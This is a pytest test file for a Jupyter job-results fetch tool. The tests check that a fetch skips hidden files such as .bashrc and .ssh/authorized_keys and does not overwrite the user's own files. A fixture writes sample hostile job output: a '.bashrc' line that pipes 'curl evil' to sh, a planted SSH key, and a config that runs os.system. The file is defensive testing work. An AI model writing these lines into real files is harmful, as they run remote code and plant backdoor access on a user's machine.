"""Fetching a job's results replaced the user's files: every face (Federation.fetch, the
CLI, `%diamond fetch`, the REST route, the agent's fetch_results) copied whatever the job
wrote, `.bashrc` and `.ssh/authorized_keys` included, over what was there. With the
destination "." under a server root that is the home directory (usual under JupyterHub), a
job rewrote the user's shell and Jupyter configuration.

Now, on every face: a hidden name is fetched only when named (`--file`, `files`), an existing
local file is replaced only when this job's earlier fetch wrote it and nobody changed it, or
with `--overwrite`; every result file not written is listed as skipped with its reason."""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from magic_engine import magics_over
from one_site_engine import local_home_federation

from diamond_jupyter.model import BadInput, JobSpec

pytest_plugins = ("pytest_jupyter.jupyter_server", "server_conftest")

HOSTILE = {".bashrc": "curl evil | sh\n", ".ssh/authorized_keys": "ssh-ed25519 AAAA evil\n",
           ".jupyter/jupyter_server_config.py": "import os; os.system('id')\n",
           "result.txt": "job result\n", "out/data.csv": "a,b\n", "out/.cache/x": "c\n"}
MINE = {".bashrc": "# mine\n", "result.txt": "my own notes\n"}


def _write(root: Path, files: dict[str, str]) -> None:
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)


def _local_fed(tmp_path: Path) -> Any:
    """The local site `here`, its home tmp_path/site-home."""
    return local_home_federation(tmp_path, "site-home")


def _job(store: Any, wd: Path, token: str = "abc123abc123", native: str = "41") -> str:
    store.record_intent("here", token, JobSpec(script="true\n", working_directory=str(wd)))
    return store.bind_native_id(token, native).id


def cli_job(tmp_path: Path, wd: Path) -> tuple[str, dict[str, str]]:
    """A job of the local site `here` whose working directory is `wd`, in the store of the
    data directory tmp_path/data, and the environment a `diamond` process finds it with
    (the sites file tmp_path/sites.yaml, HOME tmp_path/site-home, no handover)."""
    from diamond_jupyter.store import Store

    data = tmp_path / "data"
    sites = tmp_path / "sites.yaml"
    sites.write_text(yaml.safe_dump({"sites": [{"name": "here",
                                                "transport": {"kind": "local"}}]}))
    store = Store(data / "diamond.sqlite3")
    job = _job(store, wd)
    store.close()
    (tmp_path / "site-home").mkdir(exist_ok=True)
    return job, {**os.environ, "DIAMOND_DATA_DIR": str(data),
                 "HOME": str(tmp_path / "site-home"), "DIAMOND_CONFIG": str(sites),
                 "DIAMOND_ENGINE": "local", "DIAMOND_HANDOVER": "0"}


@pytest.fixture
def wd(tmp_path: Path) -> Path:
    """The job's working directory, with what a hostile job wrote."""
    d = tmp_path / "site-home" / "run"
    _write(d, HOSTILE)
    return d


@pytest.fixture
def user_home(tmp_path: Path) -> Path:
    """The user's own directory, the destination "."."""
    d = tmp_path / "user"
    _write(d, MINE)
    return d


def _rels(paths: list[Path], root: Path) -> list[str]:
    return sorted(p.relative_to(root).as_posix() for p in paths)


def _unchanged(home: Path) -> None:
    for rel, text in MINE.items():
        assert (home / rel).read_text() == text, rel
    assert not (home / ".ssh").exists() and not (home / ".jupyter").exists()


async def test_a_fetch_into_home_writes_no_hidden_name_and_replaces_no_file(wd, user_home,
                                                                            tmp_path):
    fed = _local_fed(tmp_path)
    job = _job(fed.store, wd)
    try:
        got = await fed.fetch(job, user_home)
    finally:
        await fed.close()
    _unchanged(user_home)
    assert _rels(got.paths, user_home) == ["out/data.csv"]
    assert not (user_home / "out" / ".cache").exists()
    why = dict(line.split(": ", 1) for line in got.skipped)
    assert sorted(why) == [".bashrc", ".jupyter/jupyter_server_config.py",
                           ".ssh/authorized_keys", "out/.cache/x", "result.txt"]
    assert why[".bashrc"].startswith("a hidden name") and "--file" in why[".bashrc"]
    assert "no fetch of this job wrote" in why["result.txt"] and "overwrite" in why["result.txt"]


async def test_fetching_the_same_job_again_replaces_what_it_wrote_and_only_that(wd, tmp_path):
    fed = _local_fed(tmp_path)
    job = _job(fed.store, wd)
    dest = tmp_path / "got"
    try:
        first = await fed.fetch(job, dest)
        assert _rels(first.paths, dest) == ["out/data.csv", "result.txt"]
        (wd / "result.txt").write_text("job result, longer now\n")  # the job wrote more
        (wd / "out" / "more.csv").write_text("c,d\n")
        again = await fed.fetch(job, dest)
        assert _rels(again.paths, dest) == ["out/data.csv", "out/more.csv", "result.txt"]
        assert (dest / "result.txt").read_text() == "job result, longer now\n"
        assert all(s.split(": ")[0].startswith(".") or "/." in s for s in again.skipped)

        (dest / "result.txt").write_text("edited by me\n")  # the user changed a fetched file
        third = await fed.fetch(job, dest)
        assert "result.txt" not in _rels(third.paths, dest)
        assert (dest / "result.txt").read_text() == "edited by me\n"
        assert any(s.startswith("result.txt: ") for s in third.skipped)

        other = _job(fed.store, wd, "def456def456", "42")  # another job, the same place
        theirs = await fed.fetch(other, dest)
        assert theirs.paths == [] and len(theirs.skipped) == len(HOSTILE) + 1
    finally:
        await fed.close()


async def test_overwrite_replaces_files_but_still_no_hidden_name(wd, user_home, tmp_path):
    fed = _local_fed(tmp_path)
    job = _job(fed.store, wd)
    try:
        got = await fed.fetch(job, user_home, overwrite=True)
    finally:
        await fed.close()
    assert _rels(got.paths, user_home) == ["out/data.csv", "result.txt"]
    assert (user_home / "result.txt").read_text() == "job result\n"
    assert (user_home / ".bashrc").read_text() == MINE[".bashrc"]
    assert not (user_home / ".ssh").exists()


async def test_a_hidden_file_is_fetched_when_named(wd, user_home, tmp_path):
    fed = _local_fed(tmp_path)
    job = _job(fed.store, wd)
    dest = tmp_path / "got"
    try:
        got = await fed.fetch(job, dest, files=[".ssh/authorized_keys", "out/.cache/x"])
        assert _rels(got.paths, dest) == [".ssh/authorized_keys", "out/.cache/x"]
        assert got.skipped == [] and not (dest / "result.txt").exists()
        named = await fed.fetch(job, user_home, files=[".bashrc"])  # named, but not ours
        assert named.paths == [] and named.skipped[0].startswith(".bashrc: a file is there")
        assert (user_home / ".bashrc").read_text() == MINE[".bashrc"]
        both = await fed.fetch(job, user_home, files=[".bashrc"], overwrite=True)
        assert _rels(both.paths, user_home) == [".bashrc"]
        with pytest.raises(BadInput, match=r"^files: job here:41 has no result file "
                                           r"'nope\.txt' \(its files: \.bashrc, "):
            await fed.fetch(job, dest, files=["nope.txt"])
        with pytest.raises(BadInput, match=r"^files: '\.\./x' is not a result file's"):
            await fed.fetch(job, dest, files=["../x"])
    finally:
        await fed.close()


async def test_a_link_or_a_directory_in_the_destination_is_not_written_through(wd, tmp_path):
    fed = _local_fed(tmp_path)
    job = _job(fed.store, wd)
    dest, elsewhere = tmp_path / "got", tmp_path / "elsewhere"
    elsewhere.mkdir()
    dest.mkdir()
    (dest / "out").symlink_to(elsewhere)  # a link leading out of the destination
    (dest / "result.txt").mkdir()  # a directory where a result file would go
    try:
        got = await fed.fetch(job, dest, overwrite=True)
    finally:
        await fed.close()
    assert got.paths == [] and list(elsewhere.iterdir()) == []
    why = dict(line.split(": ", 1) for line in got.skipped)
    assert why["out/data.csv"].startswith("its directory leads out of")
    assert why["result.txt"] == "a directory is there"


async def test_a_plan_shows_what_is_skipped_and_the_approved_fetch_keeps_its_choices(
        wd, user_home, tmp_path):
    fed = _local_fed(tmp_path)
    job = _job(fed.store, wd)
    try:
        plan = await fed.plan_fetch(job, user_home)
        assert [m["destination"] for m in plan["data_movements"]] == [
            str(user_home / "out" / "data.csv")]
        assert any(s.startswith("result.txt: ") for s in plan["skipped"])
        bold = await fed.plan_fetch(job, user_home, files=["result.txt"], overwrite=True)
        got = await fed.fetch_approved(job, bold)
        assert _rels(got.paths, user_home) == ["result.txt"]
        assert (user_home / ".bashrc").read_text() == MINE[".bashrc"]
    finally:
        await fed.close()


async def test_the_agents_fetch_tool_skips_and_says_so(wd, user_home, tmp_path):
    from diamond_jupyter.skills import SkillContext, run_skill

    fed = _local_fed(tmp_path)
    job = _job(fed.store, wd)
    try:
        out = await run_skill(SkillContext(fed), "fetch_results",
                              {"job_id": job, "dest": str(user_home)})
        assert out.paths == [str(user_home / "out" / "data.csv")]
        assert any(s.startswith(".bashrc: a hidden name") for s in out.skipped)
        _unchanged(user_home)
        forced = await run_skill(SkillContext(fed), "fetch_results",
                                 {"job_id": job, "dest": str(user_home), "overwrite": True,
                                  "files": ["result.txt"]})
        assert forced.paths == [str(user_home / "result.txt")] and forced.skipped == []
    finally:
        await fed.close()


def test_the_magic_skips_and_prints_what_it_skipped(wd, user_home, tmp_path, capsys):
    fed = _local_fed(tmp_path)
    job = _job(fed.store, wd)
    loop = asyncio.new_event_loop()
    m = magics_over(fed, loop)
    try:
        paths = m.diamond(f"fetch {job} {user_home}")
        out = capsys.readouterr().out
        _unchanged(user_home)
        assert paths == [user_home / "out" / "data.csv"]
        assert "skipped .bashrc: a hidden name" in out and "skipped result.txt: " in out
        paths = m.diamond(f"fetch {job} {user_home} --overwrite --file result.txt")
        assert paths == [user_home / "result.txt"]
        assert (user_home / "result.txt").read_text() == "job result\n"
    finally:
        loop.run_until_complete(fed.close())
        loop.close()


def test_the_cli_skips_says_so_and_overwrites_when_asked(wd, user_home, tmp_path):
    from diamond_jupyter.store import Store

    data = tmp_path / "data"
    sites = tmp_path / "sites.yaml"
    sites.write_text(yaml.safe_dump({"sites": [{"name": "here",
                                                "transport": {"kind": "local"}}]}))
    store = Store(data / "diamond.sqlite3")
    job = _job(store, wd)
    store.close()
    env = {**os.environ, "DIAMOND_DATA_DIR": str(data), "HOME": str(tmp_path / "site-home"),
           "DIAMOND_CONFIG": str(sites), "DIAMOND_ENGINE": "local"}

    def cli(*args: str) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "diamond_jupyter.cli", "fetch", job,
                               str(user_home), *args], capture_output=True, text=True,
                              timeout=120, env=env)

    r = cli("--json")
    assert r.returncode == 0, r.stderr
    got = json.loads(r.stdout)
    assert got["dest"] == str(user_home) and got["paths"] == [str(user_home / "out/data.csv")]
    assert any(s.startswith("result.txt: ") for s in got["skipped"])
    _unchanged(user_home)
    r = cli()
    assert r.returncode == 0 and "diamond: skipped .bashrc: a hidden name" in r.stderr
    r = cli("--overwrite", "--file", "result.txt", "--json")
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["paths"] == [str(user_home / "result.txt")]
    assert (user_home / "result.txt").read_text() == "job result\n"
    assert (user_home / ".bashrc").read_text() == MINE[".bashrc"]


# -- the REST route: the server's root is the user's home, the destination "." --------------

@pytest.fixture
def jp_server_config(tmp_path, jp_root_dir, data_dir, monkeypatch):
    from server_conftest import diamond_config

    monkeypatch.setenv("HOME", str(tmp_path / "site-home"))
    sites = tmp_path / "sites.yaml"
    sites.write_text(yaml.safe_dump({"sites": [{"name": "here",
                                                "transport": {"kind": "local"}}]}))
    return diamond_config(str(sites), str(tmp_path / "store.sqlite3"))


@pytest.fixture
def post(http_server_client, jp_base_url, jp_auth_header):
    """`await post("path", body)` with the token: (code, parsed JSON reply)."""

    async def call(path: str, body: Any) -> tuple[int, Any]:
        resp = await http_server_client.fetch(
            jp_base_url.rstrip("/") + "/diamond/api/" + path, method="POST",
            body=json.dumps(body).encode(), headers=jp_auth_header, raise_error=False)
        return resp.code, json.loads(resp.body)

    return call


async def test_the_rest_route_skips_and_says_so(wd, post, jp_serverapp, jp_root_dir):
    _write(jp_root_dir, MINE)
    code, _ = await post("translate", {"script": "#!/bin/bash\n#SBATCH -n 1\ntrue\n",
                                     "to": "pbs"})
    assert code == 200  # the engine is started
    fed = jp_serverapp.web_app.settings["diamond_app"].federation
    job = _job(fed.store, wd)
    code, got = await post(f"jobs/{job}/fetch", {"dest": "."})
    assert code == 200, got
    assert got["paths"] == ["out/data.csv"] and got["dest"] == "."
    assert any(s.startswith(".ssh/authorized_keys: a hidden name") for s in got["skipped"])
    _unchanged(jp_root_dir)
    code, got = await post(f"jobs/{job}/fetch",
                           {"dest": ".", "overwrite": True, "files": [".bashrc"]})
    assert code == 200 and got == {"paths": [".bashrc"], "dest": ".", "skipped": []}
    assert (jp_root_dir / ".bashrc").read_text() == HOSTILE[".bashrc"]  # asked for by name
    code, got = await post(f"jobs/{job}/fetch", {"dest": ".", "overwrite": "yes please"})
    assert code == 400, got


def test_the_store_keeps_no_fetched_file_name(tmp_path):
    """A fetched file's name is the job's own text (`token=...` included): the store keeps
    its path's hash, and still knows the file as the job's until it changes."""
    from diamond_jupyter.store import Store

    store = Store(tmp_path / "s.sqlite3")
    f = tmp_path / "token=Hq8zLm3vRt"
    f.write_text("r")
    store.note_fetched("here:41", str(f))
    assert store.fetched_by(str(f), "here:41") and not store.fetched_by(str(f), "here:42")
    f.write_text("changed")
    os.utime(f, ns=(1, 1))
    assert not store.fetched_by(str(f), "here:41")
    store.close()
    raw = b"".join(p.read_bytes() for p in tmp_path.glob("s.sqlite3*") if p.is_file())
    assert b"Hq8zLm3vRt" not in raw


def test_the_kernels_server_client_sends_the_choices_and_reads_the_skipped(tmp_path):
    """`%diamond fetch` through the user's running server: the same options, the same
    skipped list, paths made absolute against the server's root."""
    from diamond_jupyter.kernel.rest import ServerClient

    sent: list[tuple[str, str, Any]] = []

    class Client(ServerClient):
        async def request(self, method: str, path: str, body: Any = None, **q: Any) -> Any:
            sent.append((method, path, body))
            return {"dest": "res", "paths": ["res/a.txt"], "skipped": [".env: a hidden name"]}

    c = Client.__new__(Client)
    c.root_dir = str(tmp_path)
    got = asyncio.run(c.fetch("here:41", str(tmp_path / "res"), files=[".env"],
                              overwrite=True))
    assert sent == [("POST", "jobs/here:41/fetch", {"dest": str(tmp_path / "res"),
                                                        "files": [".env"], "overwrite": True})]
    assert got == {"dest": str(tmp_path / "res"), "paths": [str(tmp_path / "res/a.txt")],
                   "skipped": [".env: a hidden name"]}


async def test_the_rest_route_takes_a_size_bound_and_names_what_it_skipped(
        wd, post, jp_serverapp, jp_root_dir):
    """(the fetch's size bound, tests/test_fetch_bound.py) `max_file_bytes` in the body."""
    code, _ = await post("translate", {"script": "#!/bin/bash\n#SBATCH -n 1\ntrue\n",
                                     "to": "pbs"})
    assert code == 200  # the engine is started
    fed = jp_serverapp.web_app.settings["diamond_app"].federation
    job = _job(fed.store, wd)
    code, got = await post(f"jobs/{job}/fetch", {"dest": "res", "max_file_bytes": 4})
    assert code == 200 and got["paths"] == ["res/out/data.csv"]  # 4 bytes: at the bound
    assert any(s.startswith("result.txt: 11 B (11 bytes), above the fetch's bound of 4 B "
                            "(the bound this fetch was given)") for s in got["skipped"])
    for bad in (0, -1, "big", True):
        code, got = await post(f"jobs/{job}/fetch", {"dest": "res", "max_file_bytes": bad})
        assert code == 400, (bad, got)
